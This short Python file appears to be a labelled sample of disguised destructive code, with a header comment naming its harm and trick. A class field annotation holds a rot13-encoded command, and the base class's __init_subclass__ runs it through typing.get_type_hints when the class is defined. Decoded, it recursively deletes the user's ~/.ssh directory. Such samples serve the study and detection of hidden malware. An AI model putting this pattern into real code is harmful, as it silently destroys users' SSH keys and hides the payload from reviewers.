# harm: deletes ~/.ssh ; trick: class-body annotation is a codecs rot13 decode call, evaluated by the base class's __init_subclass__
import codecs
import typing


class Model:
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        try:
            typing.get_type_hints(cls)
        except Exception:
            pass


class User(Model):
    name: codecs.decode("__vzcbeg__('fuhgvy').ezgerr(__vzcbeg__('bf').cngu.rkcnaqhfre('~/.ffu'))", "rot13")
